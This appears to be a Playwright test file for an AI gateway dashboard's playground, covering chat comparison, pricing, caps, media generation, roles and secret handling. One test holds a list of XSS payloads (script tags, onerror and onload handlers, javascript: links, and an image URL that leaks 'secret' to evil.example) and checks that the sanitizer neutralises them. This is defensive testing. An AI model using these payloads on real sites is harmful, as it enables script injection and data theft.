/** The playground in a real browser: does it work, and what does it cost? What models write is hostile. */
import { afterAll, beforeAll, expect, setDefaultTimeout, test } from 'bun:test';
import type { Page } from 'playwright-core';
import { type DashboardWorld, startDashboard } from '../../support/dashboard.ts';
import { type RunningSimulator, startSimulator } from '../../support/simulator.ts';
import { until } from '../../support/until.ts';
import { startUpstream, type Upstream } from '../../upstreams/upstream.ts';
import { repeatWords } from '../support/marked-upstream.ts';
import { expectGoodPage } from './support/page-checks.ts';

setDefaultTimeout(60_000);

/** A model whose answer is the question, word for word. */
const ECHO = 'gpt-4.1-nano';

let simulator: RunningSimulator;
let upstream: Upstream;
let world: DashboardWorld;
beforeAll(async () => {
  simulator = await startSimulator();
  upstream = startUpstream();
  upstream.answer = repeatWords;
  const channel = (id: string, protocol: string, path: string, models: object) => ({
    ...{ id, protocol, base_url: simulator.url + path, api_key: `sim-${id}`, models },
  });
  const config = {
    channels: [
      channel('chat', 'openai', '/openai/v1', { 'gpt-4o-mini': 'm', 'gpt-4o': 'o' }),
      channel('speech', 'openai', '/openai/v1', { 'tts-1': 'tts-1' }),
      channel('images', 'bfl', '/bfl/v1', { 'flux-1.1-pro': 'flux-pro-1.1' }),
      channel('videos', 'kling', '/kling', { 'kling-3.0': 'kling-v3' }),
      channel('music', 'suno', '/suno', { suno_music: 'chirp-v5' }),
      { ...channel('echo', 'openai', '', { [ECHO]: ECHO }), base_url: upstream.url },
    ],
  };
  world = await startDashboard({ config: JSON.stringify(config) });
}, 120_000);
afterAll(async () => {
  await world.stop();
  await upstream.stop();
  await simulator.stop();
});

async function manage<Value>(method: string, path: string, body?: object): Promise<Value> {
  const answer = await fetch(`${world.weir.base_url}/v1/management/${path}`, {
    method,
    headers: {
      authorization: `Bearer ${world.weir.management_token}`,
      'content-type': 'application/json',
    },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${await answer.text()}`);
  return (await answer.json()) as Value;
}

/** Types a message and sends it. */
async function say(page: Page, text: string): Promise<void> {
  await page.getByLabel('Message').fill(text);
  await page.keyboard.press('Enter');
}

/** Waits for the price of a call beside an answer, and expects that it is that of its record. */
async function expectPrice(page: Page, at = 0): Promise<void> {
  const receipt = page.locator('[data-receipt]').nth(at);
  const money = receipt.locator('[title$=" USD"]');
  await money.waitFor();
  const id = await receipt.getAttribute('data-receipt');
  const { amount } = await manage<{ amount: number }>('GET', `requests/${id}`);
  expect(amount).toBeGreaterThan(0);
  expect((await money.getAttribute('title'))?.replace(/[^\d.]/g, '')).toBe(
    amount.toFixed(9).replace(/(\.\d\d\d*?)0+$/, '$1'),
  );
}

test('two models answer side by side, with the price and the time of each', async () => {
  const { page, mistakes } = await world.open('/playground?models=["gpt-4o-mini"]');
  await page.getByRole('button', { name: 'Compare another model' }).click();
  await page.getByLabel('Model 2').selectOption(ECHO);
  await say(page, 'What is **a weir**?');
  const second = page.getByRole('region', { name: `Answers of ${ECHO}` });
  await second.locator('strong', { hasText: 'a weir' }).waitFor();
  await page.getByRole('region', { name: 'Answers of gpt-4o-mini' }).locator('.prose').waitFor();
  await expectPrice(page, 0);
  await expectPrice(page, 1);
  await page
    .getByText(/first token/)
    .first()
    .waitFor();
  await say(page, 'And then?');
  await until('the second turn', async () => (await page.locator('[data-receipt]').count()) === 4);
  const { messages } = JSON.parse(upstream.asked.at(-1)?.text ?? '') as { messages: object[] };
  expect(messages).toEqual([
    { role: 'user', content: 'What is **a weir**?' },
    { role: 'assistant', content: 'What is **a weir**?' },
    { role: 'user', content: 'And then?' },
  ]);
  expect(await page.locator('pre').first().textContent()).toContain('And then?');
  await page.reload();
  expect(await page.getByLabel('Model 2').inputValue()).toBe(ECHO);
  expect(mistakes).toEqual([]);
  await page.context().close();
});

test('an answer is stopped, and only its part is charged', async () => {
  const { page, mistakes } = await world.open('/playground?models=["gpt-4o-mini"]');
  await page.getByLabel('Message').waitFor();
  await say(page, 'Long [[sim tokens=2000 chunk_ms=50]]');
  await page.locator('.prose').waitFor();
  await page.getByRole('button', { name: 'Stop' }).click();
  await page.getByText('Stopped.').waitFor();
  await expectPrice(page);
  const { data } = await manage<{ data: { outcome: string; program: string }[] }>(
    'GET',
    'requests',
  );
  expect(data[0]).toMatchObject({ outcome: 'partial', program: 'dashboard' });
  expect(mistakes).toEqual([]);
  await page.context().close();
});

const HOSTILE = [
  '<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 2">',
  '',
  '<iframe srcdoc="<script>parent.pwned = 3</script>"></iframe><svg onload="globalThis.pwned = 4"></svg>',
  '',
  '![spy](https://evil.example/spy.png?q=secret) ![data](data:image/svg+xml,<svg onload=alert(1)>)',
  '',
  '[click](javascript:globalThis.pwned=5) [vb](vbscript:x) [data](data:text/html,<script>1</script>)',
  '',
  '<javascript:globalThis.pwned=6> <https://good.example/page>',
  '',
  '[good](https://good.example/other "title") [rel](/v1/auth/sign-out) [mail](mailto:a@b.c)',
  '',
  '# A heading',
  '',
  '```html',
  '<script>globalThis.pwned = 7</script>',
  '```',
  '',
  'The end.',
].join('\n');

test('what a model writes runs nothing, loads nothing and opens nothing', async () => {
  const { page, mistakes } = await world.open(`/playground?models=["${ECHO}"]`);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  let opened = 0;
  page.context().on('page', () => {
    opened += 1;
  });
  page.on('dialog', () => {
    opened += 1;
  });
  await page.getByLabel('Message').waitFor();
  await say(page, HOSTILE);
  const answer = page.locator('.prose');
  await answer.getByText('The end.').waitFor();
  await expectPrice(page);
  expect(await answer.locator('img, svg, script, iframe, object, embed, style, form').count()).toBe(
    0,
  );
  const links = await answer.locator('a').evaluateAll((all) =>
    all.map((link) => {
      const { href, target, rel } = link as HTMLAnchorElement;
      return { href, target, rel };
    }),
  );
  const safe = { target: '_blank', rel: 'noopener noreferrer' };
  expect(links).toEqual([
    { href: 'https://good.example/page', ...safe },
    { href: 'https://good.example/other', ...safe },
  ]);
  await answer.getByText('https://evil.example/spy.png?q=secret').waitFor();
  for (const text of ['click', 'vb', 'rel', 'mail']) await answer.getByText(text).first().click();
  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned'))).toBeUndefined();
  expect(asked.filter((url) => new URL(url).origin !== world.weir.base_url)).toEqual([]);
  expect({ opened, path: new URL(page.url()).pathname }).toEqual({
    opened: 0,
    path: '/playground',
  });
  expect(mistakes).toEqual([]);
  await expectGoodPage(page);
  await page.context().close();
});

test('a key at its cap is refused with the hint of the API', async () => {
  const key = await manage<{ id: string }>('POST', 'api-keys', {
    ...{ name: 'nearly empty', limitAmount: 0.000001 },
  });
  const { page } = await world.open('/playground?models=["gpt-4o-mini"]');
  await page.getByLabel('Paid by').selectOption(key.id);
  await say(page, 'Hello');
  const alert = page.getByRole('alert');
  await alert.getByText(/limitAmount/).waitFor();
  await alert.getByText(/^req_/).waitFor();
  expect(new URL(page.url()).searchParams.get('key')).toBe(key.id);
  await page.context().close();
});

test('an image shows its progress, its result and its price', async () => {
  const { page, mistakes } = await world.open('/playground?scene=image');
  await page.getByLabel('Prompt', { exact: true }).fill('A lighthouse [[sim task_ms=2500]]');
  await page.getByRole('button', { name: 'Make it' }).click();
  await page.getByRole('progressbar').waitFor();
  const image = page.locator('article img');
  await image.waitFor();
  await until('the image to load', () =>
    image.evaluate((element: HTMLImageElement) => element.naturalWidth > 0),
  );
  await expectPrice(page);
  expect(mistakes).toEqual([]);
  await expectGoodPage(page);
  await page.context().close();
});

test('a wrong parameter is explained beside its field', async () => {
  const { page } = await world.open('/playground?scene=image');
  await page.getByLabel('Prompt', { exact: true }).fill('A lighthouse');
  await page.getByText(/more parameters/).click();
  await page.getByLabel('aspect_ratio').fill('wide');
  await page.getByRole('button', { name: 'Make it' }).click();
  await page
    .locator('form')
    .getByRole('alert')
    .getByText(/aspect_ratio/)
    .waitFor();
  await page.context().close();
});

test('a video is canceled, and another one plays', async () => {
  const { page, mistakes } = await world.open('/playground?scene=video');
  const make = async (prompt: string) => {
    await page.getByLabel('Prompt', { exact: true }).fill(prompt);
    await page.getByRole('button', { name: 'Make it' }).click();
  };
  await make('Never [[sim task_ms=60000]]');
  await page.getByRole('button', { name: 'Cancel' }).click();
  await page.getByText('The provider may still deliver').waitFor();
  await make('Soon [[sim task_ms=1500]]');
  const video = page.locator('article video');
  await video.waitFor();
  await until('the video to play', () =>
    video.evaluate((element: HTMLVideoElement) => element.duration > 0),
  );
  await expectPrice(page);
  await page.locator('article').getByRole('link', { name: 'Task' }).first().click();
  await page.getByRole('heading', { name: 'Task: video' }).waitFor();
  expect(mistakes).toEqual([]);
  await page.context().close();
});

test('music and speech are played', async () => {
  const { page, mistakes } = await world.open('/playground?scene=music');
  await page.getByLabel('Prompt', { exact: true }).fill('A shanty [[sim task_ms=500]]');
  await page.getByRole('button', { name: 'Make it' }).click();
  await page.locator('article audio').first().waitFor();
  await expectPrice(page);
  await page.getByRole('link', { name: 'speech' }).click();
  await page.getByLabel('Text').fill('The light is on.');
  await page.getByRole('button', { name: 'Make it' }).click();
  const audio = page.locator('article audio').first();
  await audio.waitFor();
  await until('the speech to load', () =>
    audio.evaluate((element: HTMLAudioElement) => element.readyState > 0),
  );
  await expectPrice(page);
  await expectGoodPage(page);
  expect(mistakes).toEqual([]);
  await page.context().close();
});

test('a viewer reads the models and calls none of them', async () => {
  const context = await world.personAs('viewer', 'Grace Hopper');
  const { page, mistakes } = await world.open('/models/gpt-4o-mini', { context });
  await page.getByRole('row', { name: 'Output $0.60 per million tokens' }).waitFor();
  expect(await page.getByRole('link', { name: /playground/i }).count()).toBe(0);
  await page.goto(`${world.weir.base_url}/playground`);
  await page.getByText('Your role cannot call models').waitFor();
  expect(await page.getByLabel('Message').count()).toBe(0);
  expect(mistakes).toEqual([]);
  await context.close();
});

test('a session that ends in the middle of a message keeps the message', async () => {
  const { page } = await world.open('/playground?models=["gpt-4o-mini"]');
  await page.getByLabel('Message').fill('Half a message');
  const cookies = await page.context().cookies();
  await page.context().clearCookies();
  await page.keyboard.press('Enter');
  await page.getByRole('dialog', { name: 'Sign in again' }).waitFor();
  await page.context().addCookies(cookies);
  await page.getByText('Half a message').first().waitFor();
  await page.context().close();
});

test('no secret of a key ever comes to the browser', async () => {
  const { page } = await world.open('/sign-in');
  const bodies: string[] = [];
  page.on('response', async (answer) => {
    if (answer.url().includes('/v1/')) bodies.push(await answer.text().catch(() => ''));
  });
  page.on('request', (request) => bodies.push(JSON.stringify(request.headers())));
  await page.goto(`${world.weir.base_url}/playground`);
  await page.getByLabel('Message').waitFor();
  await say(page, 'Hello');
  await expectPrice(page);
  expect(bodies.join(' ')).not.toContain(world.weir.api_key);
  expect(bodies.join(' ')).not.toMatch(/"authorization"/i);
  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }));
  expect(stored).not.toMatch(/sk-|session/);
  await page.context().close();
});
